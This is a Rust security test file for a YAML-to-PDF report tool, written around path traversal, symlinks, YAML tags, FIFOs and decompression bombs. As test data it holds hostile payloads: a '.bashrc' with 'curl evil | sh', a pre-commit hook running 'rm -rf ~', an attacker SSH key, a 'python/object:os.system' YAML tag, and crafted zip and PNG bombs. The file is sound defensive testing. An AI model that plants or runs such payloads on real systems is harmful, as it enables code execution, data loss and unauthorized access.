//! The defects found by testing as an attacker would (issue 17), one class at a time: files
//! written where they must not be, a report that says something else than its YAML, inputs
//! that take gigabytes or forever, valid input blamed on the templates.

use std::io::Read;
use std::path::Path;
use std::time::{Duration, Instant};

use crate::common::{MINIMAL, Test, encoded_image, flat_text};

/// `MINIMAL` with `blocks` (YAML lines at block indentation) after its one paragraph.
fn with_blocks(blocks: &str) -> String {
    format!("{MINIMAL}{blocks}")
}

/// A PNG of `width` × `height` pixels, made by the real encoder.
fn png(width: u32, height: u32) -> Vec<u8> {
    encoded_image(width, height, image::ImageFormat::Png)
}

/// A JPEG of `width` × `height` pixels, made by the real encoder.
fn jpeg(width: u32, height: u32) -> Vec<u8> {
    encoded_image(width, height, image::ImageFormat::Jpeg)
}

/// A PNG whose header claims `width` × `height`, with one tiny (wrong) data chunk: what a
/// decompression bomb looks like before its pixels are decoded.
fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend((data.len() as u32).to_be_bytes());
        out.extend(kind);
        out.extend(data);
        let mut crc = flate2::Crc::new();
        crc.update(kind);
        crc.update(data);
        out.extend(crc.sum().to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    header.extend([8, 0, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &header);
    chunk(
        &mut out,
        b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A report with one figure showing `image`.
fn with_figure(image: &str) -> String {
    with_blocks(&format!(
        "      - figure: {{image: {image}, alt: En bild}}\n"
    ))
}

// ---------------------------------------------------------------------------------------------
// Files written where they must not be, input lost.

/// A PDF rendered with `--embed-source` from a report with one PNG figure, with more files
/// attached to it afterwards, as a crafted PDF would have.
fn crafted_pdf(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let run = Test::new()
        .file("r.yaml", with_figure("bilder/bild.png"))
        .file("bilder/bild.png", png(40, 30))
        .args(&["render", "r.yaml", "--embed-source"])
        .status(0)
        .run();
    attach(&run.read("r.pdf"), extra)
}

/// `pdf` with each of `files` added to its embedded files.
fn attach(pdf: &[u8], files: &[(&str, &[u8])]) -> Vec<u8> {
    use lopdf::{Dictionary, Object, Stream};
    let mut doc = lopdf::Document::load_mem(pdf).expect("a PDF");
    let mut added = Vec::new();
    for (name, bytes) in files {
        let stream = doc.add_object(Stream::new(
            Dictionary::from_iter([("Type", Object::Name(b"EmbeddedFile".to_vec()))]),
            bytes.to_vec(),
        ));
        let spec = doc.add_object(Dictionary::from_iter([
            ("Type", Object::Name(b"Filespec".to_vec())),
            ("F", Object::string_literal(*name)),
            ("UF", Object::string_literal(*name)),
            (
                "EF",
                Object::Dictionary(Dictionary::from_iter([("F", Object::Reference(stream))])),
            ),
        ]));
        added.push(Object::string_literal(*name));
        added.push(Object::Reference(spec));
    }
    let catalog = doc.catalog().expect("a catalog").clone();

    let names = catalog.get(b"Names").expect("a name tree").clone();
    let names = match names {
        Object::Reference(id) => doc
            .get_object(id)
            .expect("names")
            .as_dict()
            .expect("dict")
            .clone(),
        Object::Dictionary(d) => d,
        _ => panic!("names"),
    };
    // typst writes the tree and its list directly or by reference; the list is replaced by a
    // new direct one either way.
    let list_of = |doc: &lopdf::Document, object: &Object| -> Vec<Object> {
        let object = match object {
            Object::Reference(id) => doc.get_object(*id).expect("list").clone(),
            other => other.clone(),
        };
        object.as_array().expect("an array").clone()
    };
    let mut tree = match names.get(b"EmbeddedFiles").expect("embedded files") {
        Object::Reference(id) => doc
            .get_object(*id)
            .expect("tree")
            .as_dict()
            .expect("dict")
            .clone(),
        Object::Dictionary(d) => d.clone(),
        _ => panic!("a tree"),
    };
    let list = list_of(&doc, tree.get(b"Names").expect("names"));
    tree.set("Names", Object::Array([list, added].concat()));
    let tree = doc.add_object(tree);
    let mut names = names;
    names.set("EmbeddedFiles", Object::Reference(tree));
    let names = doc.add_object(names);
    let root = doc
        .trailer
        .get(b"Root")
        .expect("a root")
        .as_reference()
        .expect("indirect");
    doc.get_object_mut(root)
        .expect("catalog")
        .as_dict_mut()
        .expect("dict")
        .set("Names", Object::Reference(names));
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("saved");
    out
}

/// Every file below `dir`, relative to it, sorted (links listed, not followed).
fn tree(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, dir: &Path, out: &mut Vec<String>) {
        for entry in std::fs::read_dir(dir).expect("a folder") {
            let path = entry.expect("an entry").path();
            let meta = std::fs::symlink_metadata(&path).expect("metadata");
            if meta.is_dir() {
                walk(root, &path, out);
            } else {
                let relative = path.strip_prefix(root).expect("inside");
                out.push(relative.to_string_lossy().into_owned());
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
fn extract_writes_only_the_images_the_source_names() {
    let many: Vec<(String, Vec<u8>)> = (0..200).map(|i| (format!("f{i}.png"), png(2, 2))).collect();
    let mut extra: Vec<(&str, &[u8])> = vec![
        (".bashrc", b"curl evil | sh\n"),
        (".git/hooks/pre-commit", b"#!/bin/sh\nrm -rf ~\n"),
        (".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n"),
        ("notes.txt", b"text"),
    ];
    extra.extend(many.iter().map(|(n, b)| (n.as_str(), b.as_slice())));
    let pdf = crafted_pdf(&extra);
    let attached = uppfoljning::internals::attachments(&pdf, Path::new("in.pdf")).expect("a PDF");
    assert_eq!(
        attached.len(),
        2 + extra.len(),
        "the crafted files are in the PDF"
    );
    let run = Test::new()
        .file("in.pdf", &pdf)
        .cwd("work")
        .args(&["extract", "../in.pdf", "-o", "../ut/r.yaml"])
        .status(0)
        .run();
    assert_eq!(tree(&run.path("ut")), ["bilder/bild.png", "r.yaml"]);
    assert_eq!(
        tree(&run.path("work")),
        Vec::<String>::new(),
        "nothing in the working folder"
    );
    assert_eq!(run.read("ut/bilder/bild.png"), png(40, 30));
}

#[test]
fn extract_never_writes_through_a_link_and_writes_all_or_nothing() {
    let pdf = crafted_pdf(&[]);
    let elsewhere = tempfile::tempdir().expect("a folder");
    let test = Test::new().file("in.pdf", &pdf).file("ut/keep.txt", "mine");
    #[cfg(unix)]
    std::os::unix::fs::symlink(elsewhere.path(), test.path("ut/bilder")).expect("a link");
    let run = test
        .args(&["extract", "in.pdf", "-o", "ut/r.yaml"])
        .status(1)
        .run();
    run.assert_stderr("refusing to write through the link");
    assert_eq!(
        tree(elsewhere.path()),
        Vec::<String>::new(),
        "nothing behind the link"
    );
    assert!(
        !run.path("ut/r.yaml").exists(),
        "all or nothing: no YAML either"
    );

    // An image that is there with other bytes stops everything before anything is written.
    let run = Test::new()
        .file("in.pdf", &pdf)
        .file("ut/bilder/bild.png", "another image")
        .args(&["extract", "in.pdf", "-o", "ut/r.yaml"])
        .status(1)
        .run();
    run.assert_stderr("already exists");
    assert!(!run.path("ut/r.yaml").exists());
    assert_eq!(run.read("ut/bilder/bild.png"), b"another image");
}

#[test]
fn extract_never_replaces_a_file_unless_forced() {
    let pdf = crafted_pdf(&[]);
    let run = Test::new()
        .file("in.pdf", &pdf)
        .file("mine.yaml", "my own notes\n")
        .args(&["extract", "in.pdf", "-o", "mine.yaml"])
        .status(1)
        .run();
    run.assert_stderr("mine.yaml already exists");
    assert_eq!(run.read("mine.yaml"), b"my own notes\n");
    assert!(!run.path("bilder").exists(), "no image without its YAML");

    let run = Test::reuse(run.dir)
        .args(&["extract", "in.pdf", "-o", "mine.yaml", "--force"])
        .status(0)
        .run();
    assert_eq!(
        run.read("mine.yaml"),
        with_figure("bilder/bild.png").as_bytes()
    );

    // Standard output cannot take the images: nothing is written to the working folder.
    let run = Test::new()
        .file("in.pdf", &pdf)
        .args(&["extract", "in.pdf"])
        .status(2)
        .run();
    run.assert_stderr("give -o FILE.yaml");
    assert_eq!(run.files(), ["in.pdf"]);
    assert!(run.stdout.is_empty());
}

#[test]
fn no_output_replaces_an_input_whatever_its_name() {
    let json =
        serde_json::to_string(&serde_saphyr::from_str::<serde_json::Value>(MINIMAL).expect("YAML"))
            .expect("JSON");
    let run = Test::new()
        .file("X.json", &json)
        .args(&["render", "X.json", "--sidecar"])
        .status(2)
        .run();
    run.assert_stderr("refusing to write");
    assert_eq!(run.read("X.json"), json.as_bytes(), "the report is kept");
    assert!(!run.path("X.pdf").exists(), "nothing written");

    // The same through a link, and a PDF aimed at a figure's image.
    let test = Test::new()
        .file("r.yaml", with_figure("bild.png"))
        .file("bild.png", png(4, 4));
    #[cfg(unix)]
    std::os::unix::fs::symlink(test.path("r.yaml"), test.path("r.json")).expect("a link");
    let run = test
        .args(&["render", "r.yaml", "--sidecar"])
        .status(2)
        .run();
    run.assert_stderr("refusing to write");
    let run = Test::reuse(run.dir)
        .args(&["render", "r.yaml", "-o", "bild.png"])
        .status(2)
        .run();
    assert_eq!(run.read("bild.png"), png(4, 4));
}

// ---------------------------------------------------------------------------------------------
// An official report that says something else than the YAML.

/// A report with one table of one column holding `cell`.
fn table_of(cell: &str) -> String {
    with_blocks(&format!(
        "      - table:\n          columns: [Kod]\n          rows:\n            - [{cell}]\n"
    ))
}

#[test]
fn a_number_is_printed_with_the_digits_written_or_refused() {
    for (written, printed) in [
        (
            "123456789012345678901234567890",
            "123 456 789 012 345 678 901 234 567 890",
        ),
        ("18446744073709551615", "18 446 744 073 709 551 615"),
        ("86.50", "86,50"),
        ("-0.25", "−0,25"),
        ("\"0180\"", "0180"),
        ("\"0x10\"", "0x10"),
    ] {
        let pdf = crate::common::render(&table_of(written));
        assert!(
            flat_text(&pdf).replace('\u{a0}', " ").contains(printed),
            "{written} → {printed}"
        );
    }
    for written in [
        "0180", "0x10", "1_000", "1e3", "+5", ".5", "0o17", "1e400", ".inf",
    ] {
        let run = Test::new()
            .file("in.yaml", table_of(written))
            .args(&["check", "in.yaml"])
            .status(1)
            .run();
        assert!(
            run.stderr.contains("sections[0].body[1].table.rows[0][0]")
                || run.stderr.contains("is not a number a report can show"),
            "{written}: {}",
            run.stderr
        );
        run.assert_stderr("quote it");
    }
}

#[test]
fn tags_and_quoted_scores_are_refused() {
    for tagged in [
        "supplier: !!binary SGVsbG8=",
        "supplier: !!python/object:os.system ls",
        "supplier: !foo Rent AB",
        "supplier: !!str 0180",
    ] {
        let yaml = MINIMAL.replace("supplier: Rent AB", tagged);
        let run = Test::new()
            .file("in.yaml", yaml)
            .args(&["check", "in.yaml"])
            .status(1)
            .run();
        run.assert_stderr("tags are not part of the format");
        run.assert_stderr("in.yaml:3:11");
    }
    let scored = |scores: &str| {
        format!(
            "{MINIMAL}assessment:\n  scale: {{min: 1, max: 5, description: x}}\n  criteria:\n    - {{name: A, scores: [{scores}]}}\n"
        )
    };
    for (scores, message) in [
        ("\"3\"", "\"3\" is text, not a number"),
        ("5.0", "5.0 is not a whole number"),
        ("0x3", "`0x3` is read by YAML as a number"),
        ("05", "`05` is read by YAML as a number"),
    ] {
        let run = Test::new()
            .file("in.yaml", scored(scores))
            .args(&["check", "in.yaml"])
            .status(1)
            .run();
        run.assert_stderr("assessment.criteria[0].scores[0]");
        run.assert_stderr(message);
    }
}

#[test]
fn the_yaml_reader_speaks_in_the_tool_s_words() {
    for (yaml, said) in [
        (
            MINIMAL.replace("supplier: Rent AB", "supplier: A\nsupplier: B"),
            "the key `supplier` is given twice",
        ),
        (
            format!("{MINIMAL}---\n{MINIMAL}"),
            "the file holds more than one YAML document",
        ),
        (
            MINIMAL.replace("supplier: Rent AB", "supplier: Rent AB\nnumbered: 5"),
            "the value is not true or false",
        ),
    ] {
        let run = Test::new()
            .file("in.yaml", yaml)
            .args(&["check", "in.yaml"])
            .status(1)
            .run();
        run.assert_stderr(said);
        for library in [
            "DuplicateKeyPolicy",
            "from_str_multiple",
            "invalid i64",
            "configured policy",
        ] {
            assert!(!run.stderr.contains(library), "{library}: {}", run.stderr);
        }
    }
}

#[test]
fn a_damaged_image_is_a_problem_at_its_figure() {
    let whole = jpeg(64, 48);
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='10' height='10'><image xlink:href='small.png' width='10' height='10'/></svg>";
    let cases: [(&str, Vec<u8>, &str); 5] = [
        (
            "bild.jpg",
            whole[..whole.len() / 2].to_vec(),
            "is damaged or incomplete",
        ),
        (
            "bild.png",
            png(40, 30)[..60].to_vec(),
            "is damaged or incomplete",
        ),
        (
            "bild.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><rect".to_vec(),
            "is damaged or incomplete",
        ),
        (
            "bild.svg",
            svg.to_vec(),
            "refers to another file (\"small.png\")",
        ),
        (
            "bild.png",
            png_claiming(30_000, 30_000),
            "30000 × 30000 pixels",
        ),
    ];
    for (name, bytes, message) in cases {
        for format in ["human", "json"] {
            let started = Instant::now();
            let run = Test::new()
                .file("in.yaml", with_figure(name))
                .file(name, &bytes)
                .file("small.png", png(2, 2))
                .args(&["check", "in.yaml", "--message-format", format])
                .status(1)
                .run();
            assert!(
                started.elapsed() < Duration::from_secs(10),
                "{name}: quickly"
            );
            let said = match format {
                "json" => {
                    let line: serde_json::Value =
                        serde_json::from_slice(&run.stdout).expect("one JSON object");
                    assert_eq!(line["field"], "sections[0].body[1].figure.image", "{line}");
                    assert_eq!(line["file"], "in.yaml", "{line}");
                    line.to_string() + line["message"].as_str().expect("a message")
                }
                _ => run.stderr.clone(),
            };
            assert!(said.contains(message), "{name}: {said}");
            assert!(
                said.contains("sections[0].body[1].figure.image"),
                "{name}: {said}"
            );
            assert!(
                !said.contains("style.typ") && !said.contains("/figures/"),
                "{said}"
            );
        }
    }
    // A whole JPEG of the same kind renders.
    let run = Test::new()
        .file("in.yaml", with_figure("bild.jpg"))
        .file("bild.jpg", &whole)
        .args(&["render", "in.yaml"])
        .status(0)
        .run();
    assert!(run.path("in.pdf").exists());
}

// ---------------------------------------------------------------------------------------------
// One input, gigabytes or forever.

#[test]
fn every_repeated_thing_has_a_limit_refused_quickly_at_its_field() {
    let row = |n: usize| format!("[{}]", vec!["a"; n].join(", "));
    let list = |n: usize| format!("[{}]", vec!["x"; n].join(", "));
    let findings = |n: usize| vec!["{finding: f}"; n].join(", ");
    let criteria = |n: usize| vec!["{name: k, scores: [3]}"; n].join(", ");
    let cases = [
        (
            with_blocks(&format!(
                "      - table: {{columns: {}, rows: [{}]}}\n",
                row(20_000),
                row(20_000)
            )),
            "sections[0].body[1].table.columns",
            "there are 20000 columns, more than the limit of 20",
        ),
        (
            with_blocks(&format!("      - list: {}\n", list(20_000))),
            "sections[0].body[1].list",
            "there are 20000 items, more than the limit of 1000",
        ),
        (
            format!("{MINIMAL}findings: {{items: [{}]}}\n", findings(20_000)),
            "findings.items",
            "there are 20000 findings, more than the limit of 500",
        ),
        (
            format!(
                "{MINIMAL}assessment: {{scale: {{min: 1, max: 5, description: x}}, criteria: [{}]}}\n",
                criteria(20_000)
            ),
            "assessment.criteria",
            "there are 20000 criteria, more than the limit of 50",
        ),
        (
            with_blocks(&vec![format!("      - list: {}\n", list(1_000)); 11].concat()),
            "sections[0].body[11].list",
            "there are 11000 list items in the report, more than the limit of 10000",
        ),
    ];
    for (yaml, field, message) in cases {
        let started = Instant::now();
        let run = Test::new()
            .file("in.yaml", yaml)
            .args(&["check", "in.yaml"])
            .status(1)
            .run();
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{field}: took {:?}",
            started.elapsed()
        );
        run.assert_stderr(&format!("`{field}`: {message}"));
    }
}

#[cfg(unix)]
#[test]
fn a_device_or_fifo_is_never_read() {
    let test = Test::new().file("r.yaml", with_figure("bild.png"));
    std::os::unix::fs::symlink("/dev/zero", test.path("zero.yaml")).expect("a link");
    let status = std::process::Command::new("mkfifo")
        .arg(test.path("bild.png"))
        .status()
        .expect("mkfifo");
    assert!(status.success());
    let started = Instant::now();
    let run = test.args(&["check", "zero.yaml", "r.yaml"]).status(1).run();
    assert!(started.elapsed() < Duration::from_secs(10), "no hang");
    run.assert_stderr("cannot read zero.yaml: it is a device, not a regular file");
    run.assert_stderr("it is a FIFO, not a regular file");
    run.assert_stderr("sections[0].body[1].figure.image");
}

/// The README's Limits table states every limit as the code defines it.
#[test]
fn the_readme_states_the_limits_the_code_enforces() {
    use uppfoljning::internals::limits::*;
    let readme = include_str!("../../README.md");
    let table: String = readme
        .split("## Limits")
        .nth(1)
        .and_then(|rest| {
            rest.split("\n\n")
                .find(|part| part.trim_start().starts_with("| what"))
        })
        .expect("the Limits table")
        .to_owned();
    let row = |what: &str| -> String {
        table
            .lines()
            .find(|line| line.starts_with(&format!("| {what} |")))
            .unwrap_or_else(|| panic!("no row {what:?} in the Limits table"))
            .to_owned()
    };
    let grouped = |n: u64| {
        let digits = n.to_string();
        let mut out = String::new();
        for (i, c) in digits.chars().enumerate() {
            if i > 0 && (digits.len() - i).is_multiple_of(3) {
                out.push(',');
            }
            out.push(c);
        }
        out
    };
    let mib = |n: usize| format!("{} MiB", n / (1024 * 1024));
    let expected: [(&str, String); 29] = [
        ("input file", mib(MAX_INPUT_BYTES)),
        ("YAML aliases and anchors", grouped(MAX_ALIASES as u64)),
        ("YAML nesting", format!("{MAX_DEPTH} levels")),
        (
            "one text (a paragraph, a quote, a finding)",
            grouped(MAX_TEXT_CHARS as u64),
        ),
        (
            "a one-line text (a name, a heading, a list item, a cell)",
            grouped(MAX_LINE_CHARS as u64),
        ),
        ("the dnr", format!("{MAX_DNR_CHARS} characters")),
        ("a figure's text alternative", grouped(MAX_ALT_CHARS as u64)),
        (
            "a criterion's name",
            format!("{MAX_CRITERION_CHARS} characters"),
        ),
        (
            &format!(
                "words of {} or more characters (web addresses) in one text",
                LONG_WORD_CHARS - 2
            ),
            MAX_LONG_WORDS.to_string(),
        ),
        ("sections", grouped(MAX_SECTIONS as u64)),
        ("blocks in a report", grouped(MAX_BLOCKS as u64)),
        ("items in one list", grouped(MAX_LIST_ITEMS as u64)),
        ("list items in a report", grouped(MAX_ALL_LIST_ITEMS as u64)),
        ("columns of a table", MAX_COLUMNS.to_string()),
        ("rows of a table", grouped(MAX_ROWS as u64)),
        (
            "cells in all the tables of a report",
            grouped(MAX_CELLS as u64),
        ),
        ("findings", grouped(MAX_FINDINGS as u64)),
        ("assessment criteria", MAX_CRITERIA.to_string()),
        ("scores per criterion", grouped(MAX_SCORES as u64)),
        ("points of the proposal", MAX_PROPOSAL.to_string()),
        ("contact lines", MAX_CONTACT.to_string()),
        ("signatures", MAX_SIGNATURES.to_string()),
        ("appendices", MAX_APPENDICES.to_string()),
        (
            "an image of a figure",
            format!("{}; at most {MAX_IMAGES} images", mib(MAX_IMAGE_BYTES)),
        ),
        ("pixels of a PNG or JPEG image", grouped(MAX_IMAGE_PIXELS)),
        ("a font file of `--font-path`", mib(MAX_FONT_BYTES)),
        (
            "a PDF read by `verify` or `extract`",
            format!("{} MiB", MAX_PDF_BYTES / (1024 * 1024)),
        ),
        (
            "what typesetting one report may take",
            format!("{} MiB", MAX_RENDER_BYTES >> 20),
        ),
        ("the attachments read from one PDF", mib(MAX_ATTACHED_BYTES)),
    ];
    for (what, value) in expected {
        let line = row(what);
        let stated = line.split('|').nth(2).unwrap_or_default();
        assert!(
            stated.trim_start().starts_with(&value) || stated.contains(&format!(" {value}")),
            "{what}: the README says {stated:?}, the code {value}"
        );
    }
}

#[cfg(unix)]
#[test]
fn a_device_or_fifo_is_never_replaced_by_an_output() {
    let test = Test::new().file("r.yaml", MINIMAL);
    let status = std::process::Command::new("mkfifo")
        .arg(test.path("out.pdf"))
        .status()
        .expect("mkfifo");
    assert!(status.success());
    let run = test
        .args(&["render", "r.yaml", "-o", "out.pdf"])
        .status(1)
        .run();
    run.assert_stderr("refusing to write out.pdf: it is a FIFO, not a regular file");
    let kind = std::fs::symlink_metadata(run.path("out.pdf")).expect("still there");
    assert!(
        std::os::unix::fs::FileTypeExt::is_fifo(&kind.file_type()),
        "the FIFO is kept"
    );
}

#[cfg(unix)]
#[test]
fn a_zip_entry_that_inflates_to_a_gigabyte_is_refused_before_it_is_unpacked() {
    use zip::write::SimpleFileOptions;
    let dir = tempfile::tempdir().expect("a folder");
    let path = dir.path().join("bomb.zip");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).expect("a file"));
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(true);
    zip.start_file("uuid-x/representations/rep1/data/a.pdf", options)
        .expect("an entry");
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        std::io::Write::write_all(&mut zip, &zeros).expect("written");
    }
    zip.finish().expect("a zip");
    let size = std::fs::metadata(&path).expect("size").len();
    assert!(size < 16 << 20, "a small file: {size} bytes");
    let started = Instant::now();
    // Reaped by wait4 below, which std's wait cannot be told apart from.
    #[allow(clippy::zombie_processes)]
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_uppfoljning"))
        .arg("verify")
        .arg(&path)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    let mut stderr = String::new();
    let pid = child.id() as libc::pid_t;
    child
        .stderr
        .take()
        .expect("stderr")
        .read_to_string(&mut stderr)
        .expect("read");
    // This child's own peak memory, as the kernel counted it (wait4, not the children of all
    // tests together).
    let (mut status, mut usage) = (0, unsafe { std::mem::zeroed::<libc::rusage>() });
    assert_eq!(unsafe { libc::wait4(pid, &mut status, 0, &mut usage) }, pid);
    let took = started.elapsed();
    assert!(
        libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 1,
        "{stderr}"
    );
    assert!(
        stderr.contains("would unpack to 1073741824 bytes"),
        "{stderr}"
    );
    assert!(took < Duration::from_secs(2), "took {took:?}");
    let rss_kib = usage.ru_maxrss;
    assert!(rss_kib < 200 * 1024, "{rss_kib} KiB");
}

#[test]
fn paragraphs_made_by_blank_lines_count_against_the_block_limit() {
    let many = vec!["a"; 15_000].join("\\n\\n");
    let yaml = with_blocks(&format!("      - \"{many}\"\n      - \"{many}\"\n"));
    let started = Instant::now();
    let run = Test::new()
        .file("in.yaml", yaml)
        .args(&["check", "in.yaml"])
        .status(1)
        .run();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "refused quickly"
    );
    // 15,000 paragraphs of one letter each cost as many blocks: past what one report may take
    // to typeset, at the string that goes past it.
    run.assert_stderr("`sections[0].body[1]`: the report has grown, by here, to what takes about");
}
